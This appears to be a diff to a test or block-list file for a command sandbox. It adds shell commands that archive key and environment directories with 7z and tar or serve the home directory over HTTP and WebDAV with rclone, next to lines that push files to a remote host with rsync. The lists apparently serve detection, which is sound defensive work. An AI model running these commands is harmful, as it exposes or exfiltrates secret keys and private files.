@@ -46,6 +46,11 @@ OTHER_PROGRAMS_THAT_READ_A_TREE = [
     "python3 -m http.server -d ../keys 8000",
     "cd ../keys && python3 -m http.server",
     "php -S 0.0.0.0:8000 -t ~",
+    "7z a /tmp/x.7z -ir!../keys/*",
+    "7z a /tmp/x.7z '-i!../envs'",
+    "tar -cf /tmp/x.tar --add-file=../keys",
+    "rclone serve http ~",
+    "rclone serve webdav --addr :8080 ../keys",
 ]
 
 
@@ -64,6 +69,7 @@ FILES_NAMED_BY_A_LIST = [
     "find ~ | pax -w > /tmp/x.pax",
     "rsync --files-from=- / host:x",
     "7z a /tmp/x.7z @list.txt",
+    "7z a /tmp/x.7z -i@list.txt",
     "find ~ | borg create --paths-from-stdin /tmp/repo::x",
     "restic -r /tmp/repo backup --files-from list.txt",
 ]
